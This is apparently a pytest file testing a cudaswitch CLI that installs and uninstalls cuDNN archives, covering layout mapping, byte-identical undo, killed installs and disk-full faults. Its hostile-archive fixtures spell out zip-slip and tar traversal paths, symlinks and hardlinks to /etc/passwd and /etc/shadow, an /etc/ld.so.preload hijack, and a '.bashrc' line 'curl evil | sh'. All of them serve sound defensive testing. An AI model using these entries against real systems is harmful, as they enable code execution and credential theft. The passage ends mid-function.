"""install-cudnn / uninstall-cudnn (issue 4): every layout NVIDIA shipped, byte-identical undo, hostile archives,
interrupted installs, and the real cuDNN loading after install.

Trees are compared with `cudnn_archives.snapshot`: sha256 + mode of every file, every symlink target, every folder.
"""

from __future__ import annotations

import json
import os
import shutil
import tarfile
import zipfile
from pathlib import Path

import pytest

import cudatrees
import seams
import cudnn_archives as ca
from conftest import REPO, run_cli

WIN_BASE = Path("C") / "Program Files" / "NVIDIA GPU Computing Toolkit" / "CUDA"


def _sha(path: Path) -> str:
    import hashlib

    return hashlib.sha256(path.read_bytes()).hexdigest()


def snap(root: Path, skip=()):
    return ca.snapshot(root, skip=skip)


def ok(proc):
    assert proc.returncode == 0, f"rc={proc.returncode}\nstdout:\n{proc.stdout}\nstderr:\n{proc.stderr}"
    assert "Traceback" not in proc.stderr
    return proc


def refused(proc, *needles, code=None):
    assert proc.returncode != 0, proc.stdout + proc.stderr
    if code is not None:
        assert proc.returncode == code, proc.stderr
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("cudaswitch: error: "), proc.stderr
    for n in needles:
        assert n.lower() in proc.stderr.lower(), proc.stderr
    return lines[0]


@pytest.fixture(scope="session")
def linux_templates(tmp_path_factory, real_trees):
    """cuda-11.8, cuda-12.9 from the real wheels, and a cuda-13.0 built the same way with a 13.0 version.json."""
    base = tmp_path_factory.mktemp("tpl")
    for name in ("cuda-11.8", "cuda-12.9"):
        shutil.copytree(real_trees / name, base / name, symlinks=True)
    cudatrees.cuda_12_9(base / "cuda-13.0", version_json={"cuda": {"name": "CUDA SDK", "version": "13.0.2"}})
    return base


@pytest.fixture
def linux_fs(tmp_path, linux_templates, clean_env):
    """A file-system root with /usr/local/cuda-11.8 and /usr/local/cuda-12.9; env for the CLI."""
    root = tmp_path / "fs"
    (root / "usr" / "local").mkdir(parents=True)
    for name in ("cuda-11.8", "cuda-12.9"):
        shutil.copytree(linux_templates / name, root / "usr" / "local" / name, symlinks=True)
    env = dict(clean_env, CUDASWITCH_FS_ROOT=str(root), CUDASWITCH_OS="linux")
    return root, env


@pytest.fixture
def win_fs(tmp_path, clean_env):
    root = tmp_path / "fs"
    for v, c13 in (("10.2", False), ("11.3", False), ("12.4", False), ("13.0", True)):
        cudatrees.windows_toolkit(root, v, cuda13=c13)
    env = dict(clean_env, CUDASWITCH_FS_ROOT=str(root), CUDASWITCH_OS="windows")
    return root, env


@pytest.fixture(scope="session")
def archives(tmp_path_factory):
    d = tmp_path_factory.mktemp("archives")
    names = ["win-7.6-cuda-wrapper", "win-8.2-cuda-wrapper", "win-8.3-archive", "win-8.9-archive", "win-9.10-archive",
             "win-9.20-cuda13", "linux-8.2-cuda-wrapper", "linux-8.9-archive", "linux-9.10-archive",
             "linux-9.1-cuda11", "linux-9.20-cuda13"]
    return {n: ca.make(d / n, n) for n in names}


def members(archive: Path):
    """{member path: (kind, sha256 or link)} straight from the archive, for comparing with installed files."""
    import hashlib

    out = {}
    if archive.suffix == ".zip":
        with zipfile.ZipFile(archive) as zf:
            for i in zf.infolist():
                if not i.is_dir():
                    out[i.filename] = ("file", hashlib.sha256(zf.read(i)).hexdigest())
    else:
        with tarfile.open(archive) as tf:
            for m in tf.getmembers():
                if m.issym():
                    out[m.name] = ("symlink", m.linkname)
                elif m.isfile():
                    out[m.name] = ("file", hashlib.sha256(tf.extractfile(m).read()).hexdigest())
    return out


# ---- every layout: right folders, byte-identical undo ----------------------------------------------------------------

# layout -> (os, toolkit selector, {archive folder: toolkit folder})
LAYOUTS = {
    "win-7.6-cuda-wrapper": ("windows", "10.2", {"bin": "bin", "include": "include", "lib/x64": "lib/x64"}),
    "win-8.2-cuda-wrapper": ("windows", "11.3", {"bin": "bin", "include": "include", "lib/x64": "lib/x64"}),
    "win-8.3-archive": ("windows", "11.3", {"bin": "bin", "include": "include", "lib": "lib/x64"}),
    "win-8.9-archive": ("windows", "12.4", {"bin": "bin", "include": "include", "lib/x64": "lib/x64"}),
    "win-9.10-archive": ("windows", "12.4", {"bin": "bin", "include": "include", "lib/x64": "lib/x64"}),
    "win-9.20-cuda13": ("windows", "13.0", {"bin/x64": "bin/x64", "include": "include", "lib/x64": "lib/x64"}),
    "linux-8.2-cuda-wrapper": ("linux", "11.8", {"include": "include", "lib64": "lib64"}),
    "linux-8.9-archive": ("linux", "12.9", {"include": "include", "lib": "lib64"}),
    "linux-9.10-archive": ("linux", "12.9", {"include": "include", "lib": "lib64"}),
    "linux-9.1-cuda11": ("linux", "11.8", {"include": "include", "lib": "lib64"}),
    "linux-9.20-cuda13": ("linux", "13.0", {"include": "include", "lib": "lib64"}),
}


def _toolkit_root(fs: Path, os_: str, version: str) -> Path:
    return fs / WIN_BASE / f"v{version}" if os_ == "windows" else fs / "usr" / "local" / f"cuda-{version}"


@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_layout_installs_into_right_folders_and_uninstalls_byte_identically(layout, archives, linux_fs, win_fs,
                                                                            linux_templates):
    os_, version, mapping = LAYOUTS[layout]
    fs, env = win_fs if os_ == "windows" else linux_fs
    if version == "13.0" and os_ == "linux":
        shutil.copytree(linux_templates / "cuda-13.0", fs / "usr" / "local" / "cuda-13.0", symlinks=True)
    root = _toolkit_root(fs, os_, version)
    archive = archives[layout]
    before = snap(fs)

    out = ok(run_cli(["install-cudnn", str(archive), "--cuda", version], env)).stdout
    assert "Installed cuDNN" in out and "Undo with:" in out
    if os_ == "windows":  # the line can be pasted back: the path with spaces is quoted, as `use` quotes its hint
        assert f'Undo with: cudaswitch uninstall-cudnn --cuda "C:\\Program Files\\NVIDIA GPU Computing Toolkit\\CUDA\\v{version}"' in out

    # every archive member is in the toolkit folder NVIDIA's instructions name, byte for byte; links stay links
    installed = 0
    for path, (kind, value) in members(archive).items():
        parts = path.split("/")[1:]
        folder, name = "/".join(parts[:-1]), parts[-1]
        if folder == "":
            assert not (root / name).exists() or name not in ("LICENSE",)
            continue
        dest = root / mapping[folder] / name
        if kind == "symlink":
            assert dest.is_symlink() and os.readlink(dest) == value, dest
        else:
            assert not dest.is_symlink() and _sha(dest) == value, dest
        installed += 1
    assert installed >= (3 if layout.startswith("win-7") else 15)
    # nothing outside the mapped folders changed, apart from the manifest
    after = snap(fs, skip=())
    changed = {p for p in set(after) | set(before) if after.get(p) != before.get(p)}
    allowed = {str((root / m).resolve().relative_to(fs.resolve())) for m in mapping.values()}
    stray = [p for p in changed if not any(p.startswith(a + os.sep) for a in allowed) and ".cudaswitch" not in p]
    assert not stray, stray

    listed = ok(run_cli(["list", "--json"], env)).stdout
    tk = next(t for t in json.loads(listed)["toolkits"] if t["version"].startswith(version))
    from cudaswitch.cudnn.archive import name_info

    assert tk["cudnn"] == ".".join(name_info(archive.name)["version"].split(".")[:3])

    ok(run_cli(["uninstall-cudnn", "--cuda", version], env))
    assert snap(fs) == before


def test_into_env_linux_and_windows(tmp_path, archives, clean_env):
    for os_, layout in (("linux", "linux-9.10-archive"), ("windows", "win-9.20-cuda13")):
        prefix = tmp_path / f"env-{os_}"
        (prefix / "conda-meta").mkdir(parents=True)
        (prefix / "lib").mkdir()
        env = dict(clean_env, CUDASWITCH_OS=os_, CUDASWITCH_FS_ROOT=str(tmp_path / "empty-fs"))
        before = snap(prefix)
        out = ok(run_cli(["install-cudnn", str(archives[layout]), "--into-env", "-p", str(prefix)], env)).stdout
        assert "conda environment" in out
        if os_ == "linux":
            assert os.readlink(prefix / "lib" / "libcudnn.so.9") == "libcudnn.so.9.10.2"
            assert (prefix / "include" / "cudnn_version.h").is_file()
            assert (prefix / "etc" / "cudaswitch" / "cudnn").is_dir()
            assert not (prefix / "bin").exists()  # a Linux tarball has no bin/: no empty folder made for it
        else:
            assert (prefix / "Library" / "bin" / "cudnn64_9.dll").is_file()  # bin/x64 flattened into Library\bin
            assert (prefix / "Library" / "lib" / "cudnn.lib").is_file()
            assert (prefix / "Library" / "include" / "cudnn.h").is_file()
        ok(run_cli(["uninstall-cudnn", "--into-env", "-p", str(prefix)], env))
        assert snap(prefix) == before


# ---- plans, prompts, stacking ----------------------------------------------------------------------------------------

def test_dry_run_writes_nothing_and_classifies_each_file(archives, linux_fs):
    fs, env = linux_fs
    before = snap(fs)
    out = ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--dry-run"], env)).stdout
    assert snap(fs) == before
    assert out.count("  new ") >= 30 and "nothing was written" in out
    ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], env))
    after_install = snap(fs)
    out = ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--dry-run"], env)).stdout
    assert "identical" in out and " new " not in out
    out = ok(run_cli(["install-cudnn", str(archives["linux-8.9-archive"]), "--dry-run", "--json"], env)).stdout
    plan = json.loads(out)
    actions = {f["dest"].rsplit("/", 1)[-1]: f["action"] for f in plan["files"]}
    assert actions["cudnn_version.h"] == "overwrite" and actions["libcudnn_ops_infer.so.8"] == "new"
    assert actions["libcudnn.so"] == "overwrite"  # the link now points to .so.8
    assert plan["previous_cudnn"] == "9.10.2"
    assert snap(fs) == after_install


def test_second_version_asks_is_undoable_and_stacks(archives, linux_fs):
    fs, env = linux_fs
    before = snap(fs)
    ok(run_cli(["install-cudnn", str(archives["linux-8.9-archive"])], env))
    with_89 = snap(fs)
    # reinstalling the same archive is a no-op
    out = ok(run_cli(["install-cudnn", str(archives["linux-8.9-archive"])], env)).stdout
    assert "already installed" in out and snap(fs) == with_89
    # another version: not a TTY and no --yes -> refused, nothing changed
    refused(run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], env), "already has cuDNN 8.9.7", "--yes",
            code=2)
    assert snap(fs) == with_89
    proc = ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"], env))
    assert "replaced (backed up)" in proc.stdout
    assert "file(s) of another cuDNN stay in place" in proc.stderr  # 8.x's libcudnn_ops_infer.so.8 and friends
    root = fs / "usr/local/cuda-12.9"
    assert os.readlink(root / "lib64" / "libcudnn.so") == "libcudnn.so.9"
    out = ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env)).stdout
    assert "cuDNN 8.9.7 is back" in out
    assert snap(fs) == with_89
    ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env))
    assert snap(fs) == before
    refused(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env), "nothing to undo")


def test_uninstall_refuses_when_installed_files_changed_and_force_keeps_them(archives, linux_fs):
    fs, env = linux_fs
    before = snap(fs)
    ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], env))
    hdr = fs / "usr/local/cuda-12.9/include/cudnn.h"
    hdr.write_text("/* edited by the user */\n")
    with_edit = snap(fs)
    refused(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env), "changed since the install", "--force")
    assert snap(fs) == with_edit
    out = ok(run_cli(["uninstall-cudnn", "--cuda", "12.9", "--force"], env)).stdout
    kept = hdr.with_name("cudnn.h.cudaswitch-changed")
    assert kept.read_text() == "/* edited by the user */\n" and str(kept.name) in out
    kept.unlink()
    assert snap(fs) == before


# ---- choosing the toolkit --------------------------------------------------------------------------------------------

def test_target_is_the_single_toolkit_of_the_archives_cuda_major(archives, linux_fs, linux_templates):
    fs, env = linux_fs
    out = ok(run_cli(["install-cudnn", str(archives["linux-9.1-cuda11"]), "--dry-run"], env)).stdout
    assert "CUDA 11.8" in out and "the only CUDA 11.x toolkit installed" in out
    shutil.copytree(linux_templates / "cuda-12.9", fs / "usr/local/cuda-12.4", symlinks=True)
    (fs / "usr/local/cuda-12.4/version.json").write_text(json.dumps({"cuda": {"version": "12.4.1"}}))
    line = refused(run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], env), "more than one CUDA 12.x",
                   "--cuda", code=2)
    assert "12.4.1" in line and "12.9.1" in line
    refused(run_cli(["install-cudnn", str(archives["linux-9.20-cuda13"])], env), "no CUDA 13.x toolkit")


def test_target_is_the_toolkit_the_environment_uses(archives, linux_fs, tmp_path):
    fs, env = linux_fs
    prefix = tmp_path / "envs" / "dl"
    (prefix / "conda-meta").mkdir(parents=True)
    (prefix / "etc" / "cudaswitch").mkdir(parents=True)
    (prefix / "etc" / "cudaswitch" / "state.yaml").write_text(
        "selector: '11.8'\nversion: 11.8.89\nroot: /usr/local/cuda-11.8\ntime: '2026-01-01T00:00:00Z'\n"
        "cudaswitch_version: 0.1.0\n")
    env = dict(env, CONDA_PREFIX=str(prefix), CONDA_DEFAULT_ENV="dl")
    line = refused(run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], env), "built for CUDA 12",
                   "CUDA 11.8", "--force")
    assert "cuda-11.8" in line
    out = ok(run_cli(["install-cudnn", str(archives["linux-9.1-cuda11"]), "--dry-run"], env)).stdout
    assert "environment dl uses" in out


def test_wrong_major_force_overrides_and_says_so(archives, linux_fs):
    fs, env = linux_fs
    before = snap(fs)
    refused(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--cuda", "11.8"], env),
            "built for CUDA 12", "--force")
    assert snap(fs) == before
    out = ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--cuda", "11.8", "--force"], env)).stdout
    assert "warning: --force: this cuDNN is built for CUDA 12" in out
    ok(run_cli(["uninstall-cudnn", "--cuda", "11.8"], env))
    assert snap(fs) == before


# ---- hostile and broken archives: refused, nothing written -----------------------------------------------------------

TOP = "cudnn-linux-x86_64-9.10.2.21_cuda12-archive"
WTOP = "cudnn-windows-x86_64-9.10.2.21_cuda12-archive"


def _tar_with(tmp: Path, extra, name=f"{TOP}.tar.xz", base=None):
    entries = list(base if base is not None else ca.linux_entries("9.10.2.21", "12")) + list(extra)
    return ca.write_tar(tmp / name, entries)


def _zip_with(tmp: Path, extra, name=f"{WTOP}.zip"):
    return ca.write_zip(tmp / name, ca.windows_entries("9.10.2.21", "12", "archive") + list(extra))


def _raw_zip(path: Path, names):
    with zipfile.ZipFile(path, "w") as zf:
        for n, data in names:
            zf.writestr(zipfile.ZipInfo(n), data)
    return path


HOSTILE = {
    # name: (builder, os, expected words)
    "zip-slip": (lambda t: _zip_with(t, [(f"{WTOP}/../../../../Windows/System32/evil.dll", "file", b"MZ")]),
                 "windows", ["'..'"]),
    "zip-drive-letter": (lambda t: _zip_with(t, [("C:/Windows/System32/evil.dll", "file", b"MZ")]), "windows",
                         ["drive letter"]),
    "zip-backslash-slip": (lambda t: _zip_with(t, [(f"{WTOP}\\..\\..\\evil.dll", "file", b"MZ")]), "windows",
                           ["'..'"]),
    "zip-symlink": (lambda t: _zip_with(t, [(f"{WTOP}/bin/link.dll", "symlink", "C:/Windows/evil.dll")]),
                    "windows", ["symlink"]),
    "tar-absolute": (lambda t: _tar_with(t, [("/etc/ld.so.preload", "file", b"/tmp/evil.so\n")]), "linux",
                     ["absolute path"]),
    "tar-dotdot-last": (lambda t: _tar_with(t, [(f"{TOP}/lib/../../../../../etc/evil", "file", b"x")]), "linux",
                        ["'..'"]),
    "tar-symlink-escape": (lambda t: _tar_with(t, [(f"{TOP}/lib/libevil.so", "symlink", "../../../../etc/passwd")]),
                           "linux", ["points outside"]),
    "tar-symlink-absolute": (lambda t: _tar_with(t, [(f"{TOP}/lib/libevil.so", "symlink", "/etc/passwd")]), "linux",
                             ["points outside"]),
    "tar-hardlink": (lambda t: _tar_with(t, [(f"{TOP}/lib/libevil.so", "hardlink", "/etc/shadow")]), "linux",
                     ["hard link"]),
    "tar-dangling-symlink": (lambda t: _tar_with(t, [(f"{TOP}/lib/libcudnn_x.so", "symlink", "libnothing.so.9")]),
                             "linux", ["points to nothing"]),
    "tar-stray-folder": (lambda t: _tar_with(t, [(f"{TOP}/lib/x64_win/cudnn.lib", "file", b"x")]), "linux",
                         ["unexpected folder", "lib/x64_win"]),
    "tar-one-level-too-deep": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        (f"{TOP}/{p}", k, d) for p, k, d in ca.linux_entries("9.10.2.21", "12")]), "linux",
        ["extra folder level"]),
    "tar-two-tops": (lambda t: _tar_with(t, [("cudnn-linux-x86_64-8.9.7.29_cuda12-archive/include/cudnn.h", "file",
                                              b"x")]), "linux", ["more than one top folder"]),
    "not-cudnn-photos": (lambda t: _raw_zip(t / "holiday.zip", [("photos/a.jpg", b"\xff\xd8"), ("photos/b.jpg", b"x")]),
                         "windows", ["not a cuDNN archive"]),
    "not-cudnn-no-header": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        e for e in ca.linux_entries("9.10.2.21", "12") if "cudnn_version.h" not in e[0]]), "linux",
        ["not a cuDNN archive", "cudnn_version.h"]),
    "not-cudnn-no-library": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        e for e in ca.linux_entries("9.10.2.21", "12") if "/lib/libcudnn.so" not in e[0]]), "linux",
        ["libcudnn.so.9"]),
    "not-an-archive": (lambda t: (t / f"{TOP}.tar.xz").write_bytes(b"<html>404 Not Found</html>") and
                       t / f"{TOP}.tar.xz", "linux", ["not a .zip, .tar.xz or .tar.gz"]),
    "mixed-os": (lambda t: _tar_with(t, [(f"{TOP}/lib/cudnn64_9.dll", "file", b"MZ")]), "linux",
                 ["mixes Windows"]),
    "wrong-os": (lambda t: ca.make(t, "win-9.10-archive"), "linux", ["Windows zip", "Linux install"]),
    "wrong-os-tarball-into-windows": (lambda t: ca.make(t, "linux-9.10-archive"), "windows",
                                      ["Linux tarball", "Windows install"]),
    "wrong-arch-sbsa": (lambda t: ca.write_tar(t / "cudnn-linux-sbsa-9.10.2.21_cuda12-archive.tar.xz", [
        (p.replace("x86_64", "sbsa"), k, d) for p, k, d in ca.linux_entries("9.10.2.21", "12")]), "linux",
        ["built for sbsa", "x86_64 toolkit"]),
    "wrong-cuda-major": (lambda t: ca.make(t, "linux-9.20-cuda13"), "linux", ["built for CUDA 13", "--force"]),
    "header-disagrees-with-name": (lambda t: ca.write_tar(t / f"{TOP}.tar.xz", [
        (p, k, ca.version_header("9.1.0.70") if p.endswith("cudnn_version.h") else d)
        for p, k, d in ca.linux_entries("9.10.2.21", "12")]), "linux", ["says cuDNN 9.10.2.21", "says 9.1.0"]),
}


def _truncate(path: Path, keep: float) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def _corrupt(path: Path) -> Path:
    data = bytearray(path.read_bytes())
    mid = len(data) // 2
    data[mid:mid + 64] = bytes(64)
    path.write_bytes(bytes(data))
    return path


def _big_linux(t: Path) -> Path:
    """A tarball whose libraries are large enough that truncation hits file data, not only the footer."""
    entries = []
    for p, k, d in ca.linux_entries("9.10.2.21", "12"):
        if k == "file" and ".so." in p:
            d = os.urandom(256 * 1024)
        entries.append((p, k, d))
    return ca.write_tar(t / f"{TOP}.tar.xz", entries)


HOSTILE.update({
    "truncated-tar-xz": (lambda t: _truncate(_big_linux(t), 0.6), "linux", ["truncated or corrupt"]),
    "truncated-tar-xz-footer": (lambda t: _truncate(_big_linux(t), 0.9999), "linux", ["truncated or corrupt"]),
    "corrupt-tar-xz": (lambda t: _corrupt(_big_linux(t)), "linux", ["truncated or corrupt"]),
    "truncated-tgz": (lambda t: _truncate(ca.write_tar(t / f"{TOP}.tar.gz", [
        (p, k, os.urandom(100_000) if k == "file" and ".so." in p else d)
        for p, k, d in ca.linux_entries("9.10.2.21", "12")], "w:gz"), 0.5), "linux", ["truncated or corrupt"]),
    "truncated-zip": (lambda t: _truncate(ca.make(t, "win-9.10-archive"), 0.7), "windows",
                      ["truncated or corrupt"]),
    "corrupt-zip-data": (lambda t: _corrupt(ca.write_zip(t / f"{WTOP}.zip", [
        (p, k, os.urandom(200_000) if p.endswith(".dll") else d)
        for p, k, d in ca.windows_entries("9.10.2.21", "12", "archive")])), "windows", ["truncated or corrupt"]),
    # issue 14: only what a cuDNN archive contains, and limits before anything is written
    "tar-dotfile-in-include": (lambda t: _tar_with(t, [(f"{TOP}/include/.bashrc", "file", b"curl evil | sh\n")]),
                               "linux", ["include/.bashrc", "not a cuDNN file"]),
    "tar-foreign-library": (lambda t: _tar_with(t, [(f"{TOP}/lib/libc.so.6", "file", b"\x7fELF")]), "linux",
                            ["lib/libc.so.6", "not a cuDNN file"]),
    "zip-foreign-dll": (lambda t: _zip_with(t, [(f"{WTOP}/bin/python311.dll", "file", b"MZ")]), "windows",
                        ["bin/python311.dll", "not a cuDNN file"]),
    "tar-too-many-members": (lambda t: ca.many_members_tar(t / f"{TOP}.tar.xz", 2500), "linux",
                             ["more than 2000 members"]),
    "zip-too-many-members": (lambda t: _zip_with(t, [(f"{WTOP}/include/cudnn_x{i}.h", "file", b"")
                                                     for i in range(2500)]), "windows", ["more than 2000 members"]),
    "tar-declares-a-9-gib-member": (lambda t: ca.huge_member_tar(t / f"{TOP}.tar.gz", 9 << 30), "linux",
                                    ["more than 8 GiB", "libcudnn_engines_precompiled"]),
})


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_or_broken_archive_is_refused_with_nothing_written(case, tmp_path, linux_fs, win_fs):
    build, os_, words = HOSTILE[case]
    fs, env = linux_fs if os_ == "linux" else win_fs
    version = "12.9" if os_ == "linux" else "12.4"
    d = tmp_path / "hostile"
    d.mkdir()
    archive = build(d)
    before = snap(fs)
    line = refused(run_cli(["install-cudnn", str(archive), "--cuda", version], env), *words)
    assert snap(fs) == before, line
    # the dry run refuses it the same way, also writing nothing
    refused(run_cli(["install-cudnn", str(archive), "--cuda", version, "--dry-run"], env))
    assert snap(fs) == before
    assert not (tmp_path / "evil").exists() and not Path("/etc/evil").exists()


def test_integrity_sha256_and_redistrib_json(archives, linux_fs, tmp_path):
    import hashlib

    fs, env = linux_fs
    archive = archives["linux-9.10-archive"]
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    before = snap(fs)
    refused(run_cli(["install-cudnn", str(archive), "--sha256", "0" * 64], env), "does not match")
    refused(run_cli(["install-cudnn", str(archive), "--sha256", "xyz"], env), "not a SHA-256")
    redist = tmp_path / "redistrib_9.10.2.json"
    redist.write_text(json.dumps({"release_date": "2025-06-01", "cudnn": {
        "name": "NVIDIA CUDA Deep Neural Network library", "version": "9.10.2.21",
        "linux-x86_64": {"cuda12": {"relative_path": f"cudnn/linux-x86_64/{archive.name}", "sha256": "1" * 64,
                                    "md5": "0" * 32, "size": str(archive.stat().st_size)}}}}))
    refused(run_cli(["install-cudnn", str(archive), "--redistrib-json", str(redist)], env), "does not match")
    assert snap(fs) == before
    redist.write_text(redist.read_text().replace("1" * 64, digest))
    out = ok(run_cli(["install-cudnn", str(archive), "--redistrib-json", str(redist), "--sha256", digest], env)).stdout
    assert "SHA-256 verified" in out


# ---- faults: killed, disk full, permission denied ----------------------------------------------------------------------

def _with_old_cudnn(fs: Path, archives) -> None:
    """A cuDNN 8.9 copied in by hand (no manifest), as NVIDIA's manual install steps and most tutorials do it: the
    install must overwrite some of its files and the backups must bring them back."""
    root = fs / "usr/local/cuda-12.9"
    with tarfile.open(archives["linux-8.9-archive"]) as tf:
        for m in tf.getmembers():
            if m.isdir():
                continue
            parts = m.name.split("/")
            folder = {"include": "include", "lib": "lib64"}.get(parts[1])
            if not folder:
                continue
            dest = root / folder / parts[-1]
            if m.issym():
                os.symlink(m.linkname, dest)
            else:
                dest.write_bytes(tf.extractfile(m).read())
                os.chmod(dest, m.mode)


@pytest.fixture
def full_install_reference(archives, linux_fs, tmp_path):
    """The tree after an uninterrupted install of 9.10 over a hand-copied 8.9 (manifest folder excluded)."""
    fs, env = linux_fs
    ref = tmp_path / "ref-fs"
    shutil.copytree(fs, ref, symlinks=True)
    _with_old_cudnn(ref, archives)
    renv = dict(env, CUDASWITCH_FS_ROOT=str(ref))
    ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"], renv))
    return snap(ref / "usr/local/cuda-12.9", skip=(".cudaswitch",))


KILLS = ["stage:1", "stage:5", "staged", "commit:1", "commit:7", "commit-mid", "commit:37", "committed"]


@pytest.mark.parametrize("point", KILLS)
def test_sigkill_during_install_then_next_command_recovers(point, archives, linux_fs):
    fs, env = linux_fs
    _with_old_cudnn(fs, archives)
    root = fs / "usr/local/cuda-12.9"
    before = snap(fs)
    before_tk = snap(root, skip=(".cudaswitch",))
    proc = run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"],
                   dict(env, CUDASWITCH_FAULT=f"kill@{point}"))
    assert proc.returncode == -9, proc.stdout + proc.stderr
    mid = snap(root, skip=(".cudaswitch",))
    if point.startswith(("stage", "staged")):
        assert mid == before_tk  # nothing in the toolkit was touched before the commit point
    journal = list((root / ".cudaswitch" / "cudnn").glob("*/manifest.yaml"))
    assert len(journal) == 1
    # the next command finds the journal: before the commit point it rolls back, after it completes
    out = ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env)).stdout
    if point.startswith(("stage", "staged")):
        assert "rolled back an interrupted cuDNN install" in out
        assert snap(fs) == before
    else:
        assert "completed an interrupted cuDNN install" in out
        assert "Removed cuDNN 9.10.2.21" in out
        assert snap(fs) == before


@pytest.mark.parametrize("point", ["commit:3", "committed"])
def test_sigkill_then_rerun_install_completes_it(point, archives, linux_fs, full_install_reference):
    fs, env = linux_fs
    _with_old_cudnn(fs, archives)
    before = snap(fs)
    proc = run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"],
                   dict(env, CUDASWITCH_FAULT=f"kill@{point}"))
    assert proc.returncode == -9
    out = ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"], env)).stdout
    assert "completed an interrupted cuDNN install" in out and "already installed" in out
    assert snap(fs / "usr/local/cuda-12.9", skip=(".cudaswitch",)) == full_install_reference
    ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env))
    assert snap(fs) == before


@pytest.mark.parametrize("point", ["uninstall:1", "uninstall:9", "uninstall:37"])
def test_sigkill_during_uninstall_then_next_command_completes_it(point, archives, linux_fs):
    fs, env = linux_fs
    _with_old_cudnn(fs, archives)
    before = snap(fs)
    ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"], env))
    proc = run_cli(["uninstall-cudnn", "--cuda", "12.9"], dict(env, CUDASWITCH_FAULT=f"kill@{point}"))
    assert proc.returncode == -9
    out = ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env)).stdout
    assert "completed an interrupted cuDNN uninstall" in out
    assert snap(fs) == before


@pytest.mark.parametrize("fault,words", [
    ("enospc@stage:3", ["disk full", "nothing was changed"]),
    ("eacces@stage:2", ["permission denied", "nothing was changed"]),
    ("enospc@commit:5", ["disk full", "nothing was changed"]),
    ("eacces@commit-mid", ["permission denied", "nothing was changed"]),
    ("eacces@committed", ["permission denied", "nothing was changed"]),
])
def test_enospc_and_eacces_leave_the_toolkit_untouched(fault, words, archives, linux_fs):
    fs, env = linux_fs
    _with_old_cudnn(fs, archives)
    before = snap(fs)
    refused(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"],
                    dict(env, CUDASWITCH_FAULT=fault)), *words)
    assert snap(fs) == before


def test_real_disk_full_on_a_tiny_filesystem(archives, tmp_path, linux_templates, clean_env):
    """ENOSPC from the kernel, not injected: the toolkit sits on a 2 MiB tmpfs (needs root to mount)."""
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    import subprocess

    mnt = tmp_path / "small"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(mnt)]).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        cudatrees.windows_toolkit(mnt, "12.4")
        env = dict(clean_env, CUDASWITCH_FS_ROOT=str(mnt), CUDASWITCH_OS="windows")
        big = ca.write_zip(tmp_path / f"{WTOP}.zip", [
            (p, k, os.urandom(700_000) if p.endswith(".dll") else d)
            for p, k, d in ca.windows_entries("9.10.2.21", "12", "archive")])
        before = snap(mnt)
        refused(run_cli(["install-cudnn", str(big), "--cuda", "12.4"], env), "disk full", "nothing was changed")
        assert snap(mnt) == before
    finally:
        subprocess.run(["umount", str(mnt)])


@pytest.mark.parametrize("os_", ["linux", "windows"])
def test_no_write_permission_is_detected_before_anything_is_staged(os_, tmp_path):
    """The up-front check with the access test injected (root passes every access() check)."""
    from cudaswitch.cudnn.preflight import check_writable
    from cudaswitch.cudnn.target import toolkit_target
    from cudaswitch.core.errors import CudaswitchError
    from cudaswitch.core.system import System
    from cudaswitch.discovery.toolkits import discover, select

    fs = tmp_path / "fs"
    if os_ == "linux":
        cudatrees.cuda_10_2(fs / "usr/local/cuda-10.2")
    else:
        cudatrees.windows_toolkit(fs, "10.2")
    system = System(os=os_, environ={"CUDASWITCH_CONFIG": str(tmp_path / "none.yaml")}, root=fs)
    target = toolkit_target(system, select(discover(system), "10.2", system))
    before = snap(fs)
    with pytest.raises(CudaswitchError) as exc:
        check_writable(target, access=lambda path, mode: False)
    msg = str(exc.value)
    assert "permission denied" in msg and "--into-env" in msg and "nothing was changed" in msg
    assert ("sudo" in msg) if os_ == "linux" else ("administrator" in msg and "C:\\Program Files" in msg)
    assert snap(fs) == before


def _install_as_nobody(args, env, conn):
    """The real command line, in this (forked) process, as the unprivileged user 65534."""
    from click.testing import CliRunner

    from cudaswitch.cli import main

    os.setgid(65534)
    os.setuid(65534)
    result = CliRunner().invoke(main, args, env=env)
    conn.send((result.exit_code, result.output))


def test_no_write_permission_cli_as_an_ordinary_user(archives, clean_env):
    """A real EACCES: an ordinary user installing into a toolkit it may not write. As root (CI), the test drops to
    another user in a forked process; modules the install needs are imported first, since that user cannot read
    root's site-packages."""
    import multiprocessing
    import tempfile

    import cudaswitch.cli  # noqa: F401
